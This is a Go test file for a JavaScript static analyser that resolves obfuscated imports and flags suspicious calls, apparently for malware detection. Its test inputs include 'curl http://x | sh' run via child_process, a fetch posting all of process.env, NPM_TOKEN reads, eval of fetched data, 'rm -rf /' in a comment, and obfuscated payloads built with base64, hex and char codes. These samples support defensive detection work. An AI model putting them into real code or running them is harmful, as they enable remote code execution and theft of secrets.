package jsast

import (
	"strings"
	"testing"
	"time"
)

func hasString(f *Facts, v string) bool {
	for _, s := range f.Strings {
		if s.Value == v {
			return true
		}
	}
	return false
}

func hasImport(f *Facts, m string) bool {
	for _, i := range f.Imports {
		if i.Module == m {
			return true
		}
	}
	return false
}

func hasCall(f *Facts, callee string) *Call {
	for i := range f.Calls {
		if f.Calls[i].Callee == callee {
			return &f.Calls[i]
		}
	}
	return nil
}

func TestFolding(t *testing.T) {
	tests := []struct {
		name, src, want string
	}{
		{"concat", `var m = require('chi' + 'ld_' + "process");`, "child_process"},
		{"template", "var m = require(`child_process`);", "child_process"},
		{"base64", `require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString())`, "child_process"},
		{"atob", `require(atob('Y2hpbGRfcHJvY2Vzcw=='))`, "child_process"},
		{"hex", `require(Buffer.from('6368696c645f70726f63657373','hex').toString('utf8'))`, "child_process"},
		{"escapes", `require("\x63hild_\u0070rocess")`, "child_process"},
		{"charcodes", `require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115))`, "child_process"},
		{"join", `require(['child','process'].join('_'))`, "child_process"},
		{"reverse", `require('ssecorp_dlihc'.split('').reverse().join(''))`, "child_process"},
		{"const", `const a = 'child_'; const b = a + 'process'; require(b)`, "child_process"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := Analyze("x.js", []byte(tc.src), DefaultLimits())
			if !hasImport(f, tc.want) {
				t.Errorf("imports = %+v, want %q (parse error %q)", f.Imports, tc.want, f.ParseError)
			}
		})
	}
}

func TestCallsAndEnv(t *testing.T) {
	src := `
const cp = require('child_process');
const { exec: run } = require("node:child_process");
import os from 'os';
cp.exec('curl http://x | sh');
run(cmd);
fetch('https://example.com', {method: 'POST', body: JSON.stringify(process.env)});
const t = process.env.NPM_TOKEN;
os.hostname();
// eval("commented out")
axios.get(u).then(res => eval(res.data));
`
	f := Analyze("x.mjs", []byte(src), DefaultLimits())
	if f.Mode != ModeAST {
		t.Fatalf("mode %v err %q", f.Mode, f.ParseError)
	}
	c := hasCall(f, "child_process.exec")
	if c == nil || len(c.Args) == 0 || c.Args[0].Value != "curl http://x | sh" || c.Pos.Line != 5 {
		t.Errorf("child_process.exec call = %+v", c)
	}
	if hasCall(f, "os.hostname") == nil {
		t.Errorf("os.hostname missing: %+v", f.Calls)
	}
	var whole, token bool
	for _, e := range f.Env {
		if e.Name == "" && e.How == "arg:JSON.stringify" {
			whole = true
		}
		if e.Name == "NPM_TOKEN" {
			token = true
		}
	}
	if !whole || !token {
		t.Errorf("env = %+v", f.Env)
	}
	ev := hasCall(f, "eval")
	if ev == nil || ev.Pos.Line != 11 {
		t.Fatalf("eval = %+v", ev)
	}
	if !strings.Contains(strings.Join(f.NetVars, ","), "res") {
		t.Errorf("netVars = %v", f.NetVars)
	}
}

func TestCommentsNeverFacts(t *testing.T) {
	f := Analyze("x.js", []byte("// require('child_process').exec('rm -rf /')\n/* eval(x) */\nvar a = 1;"), DefaultLimits())
	if len(f.Calls) != 0 || len(f.Imports) != 0 {
		t.Errorf("facts from comments: %+v %+v", f.Calls, f.Imports)
	}
}

func TestTypeScript(t *testing.T) {
	src := "import { exec } from 'child_process';\ninterface A { x: number }\nconst y: string = 'a';\nexec(y as string);\n"
	f := Analyze("a.ts", []byte(src), DefaultLimits())
	if f.Mode != ModeTransformed {
		t.Fatalf("mode %v: %s", f.Mode, f.ParseError)
	}
	c := hasCall(f, "child_process.exec")
	if c == nil || c.Pos.Line != 4 {
		t.Errorf("exec = %+v", c)
	}
}

func TestLexerFallback(t *testing.T) {
	// JS the parser rejects (flow annotations) still yields facts.
	src := "// @flow\nconst cp = require('child_process');\nfunction f(x: number): string { return cp.exec('whoami') }\n"
	f := Analyze("a.js", []byte(src), DefaultLimits())
	if f.Mode != ModeLexer || f.ParseError == "" {
		t.Fatalf("mode = %v", f.Mode)
	}
	if !hasImport(f, "child_process") || hasCall(f, "child_process.exec") == nil || !hasString(f, "whoami") {
		t.Errorf("facts = %+v %+v", f.Imports, f.Calls)
	}
}

func TestHostile(t *testing.T) {
	deep := strings.Repeat("(", 200000) + "1" + strings.Repeat(")", 200000)
	long := "var a = '" + strings.Repeat("A", 50<<20) + "';"
	chain := "var x = " + strings.Repeat("a+", 5000) + "a; require('child_process')"
	cases := map[string]string{
		"deep":    deep,
		"long":    long,
		"invalid": "var a = '\xff\xfe\xfd'; require('os')\x00\x80",
		"chain":   chain,
		"deepTS":  strings.Repeat("[", 300000),
		// esbuild loops forever on invalid UTF-8 in source maps
		"invalidTS": "\"\xf0\xf0\xf0\"; let x: number = 1",
	}
	for name, src := range cases {
		t.Run(name, func(t *testing.T) {
			start := time.Now()
			fn := "a.js"
			if name == "deepTS" || name == "invalidTS" {
				fn = "a.ts"
			}
			f := Analyze(fn, []byte(src), DefaultLimits())
			if f.Mode == ModeAST && name == "deep" {
				t.Errorf("deep nesting parsed as AST")
			}
			if name == "chain" && !hasImport(f, "child_process") {
				t.Errorf("chain: import lost (mode %v)", f.Mode)
			}
			if name == "invalid" && f.InvalidUTF8 == 0 {
				t.Errorf("invalid UTF-8 not counted")
			}
			if d := time.Since(start); d > 30*time.Second {
				t.Errorf("took %v", d)
			}
		})
	}
}

func TestObfuscationMetrics(t *testing.T) {
	src := `var _0x1a2b=['log','hello'];var _0x3c4d=function(_0x5e6f,_0x7a8b){return _0x1a2b[_0x5e6f-0x0];};console[_0x3c4d(0)](_0x3c4d(1));
var hidden = 1;` + strings.Repeat(" ", 200) + `eval(atob('YWxlcnQoMSk='));` + "\nvar s = 'a\u202Eb';"
	f := Analyze("a.js", []byte(src), DefaultLimits())
	if f.Idents.Hex < 3 {
		t.Errorf("hex idents = %d", f.Idents.Hex)
	}
	if len(f.Hidden) != 1 {
		t.Errorf("hidden = %+v", f.Hidden)
	}
	if len(f.Unicode) != 1 || f.Unicode[0].Kind != "bidi" {
		t.Errorf("unicode = %+v", f.Unicode)
	}
	ev := hasCall(f, "eval")
	if ev == nil || !ev.Args[0].Decoded || ev.Args[0].Value != "alert(1)" {
		t.Errorf("eval = %+v", ev)
	}
}

func FuzzAnalyze(f *testing.F) {
	f.Add([]byte("require('a'+'b')"))
	f.Add([]byte("`${a}`+'\\u{1F600}'"))
	f.Add([]byte("for(;;){}"))
	f.Add([]byte("a = <div/>"))
	f.Fuzz(func(t *testing.T, b []byte) {
		for _, name := range []string{"a.js", "a.ts"} {
			_ = Analyze(name, b, Limits{MaxSize: 1 << 20, MaxParseSize: 1 << 20, MaxDepth: 200, MaxFacts: 1000})
		}
	})
}

func TestDecodedPayloadAnalysed(t *testing.T) {
	// eval(atob("require('child_process').exec('whoami')"))
	src := `eval(atob("cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ3dob2FtaScp"))`
	f := Analyze("a.js", []byte(src), DefaultLimits())
	c := hasCall(f, "child_process.exec")
	if c == nil || c.Pos.Line != 1 || len(c.Args) == 0 || c.Args[0].Value != "whoami" {
		t.Fatalf("payload call = %+v (calls %+v)", c, f.Calls)
	}
	if !hasImport(f, "child_process") {
		t.Errorf("payload import missing: %+v", f.Imports)
	}
}

// Names resolve by scope, as the parser declares them: minified bundles
// reuse one-letter names in every module, and a parameter shadows a
// module-level binding.
func TestScopes(t *testing.T) {
	src := `const cp = require("child_process");
function hoisted() { cp.exec("id") }            // module binding, used before the call site below
function shadow(cp) { cp.exec("fine") }          // a parameter, not the module
(function () { var e = require("https"); e.get("https://x.example/a") })();
(function () { var e = { get: function () {} }; e.get("/local") })();
function d(x) { return Buffer.from(x, "base64").toString() }
(function () { function d(x) { return x } d("aGVsbG8=") })();
d("d29ybGQ=");`
	f := Analyze("a.js", []byte(src), DefaultLimits())
	var execs, gets []string
	for _, c := range f.Calls {
		if len(c.Args) == 0 {
			continue
		}
		switch c.Callee {
		case "child_process.exec":
			execs = append(execs, c.Args[0].Value)
		case "https.get":
			gets = append(gets, c.Args[0].Value)
		}
	}
	if strings.Join(execs, ",") != "id" {
		t.Errorf("child_process.exec calls with %q, want only the module binding's (id)", execs)
	}
	if strings.Join(gets, ",") != "https://x.example/a" {
		t.Errorf("https.get calls with %q, want only the first IIFE's", gets)
	}
	if !hasString(f, "world") {
		t.Error("the module-level decoder helper was not folded")
	}
	if hasString(f, "hello") {
		t.Error("the inner identity function d was taken for the module's decoder")
	}
}
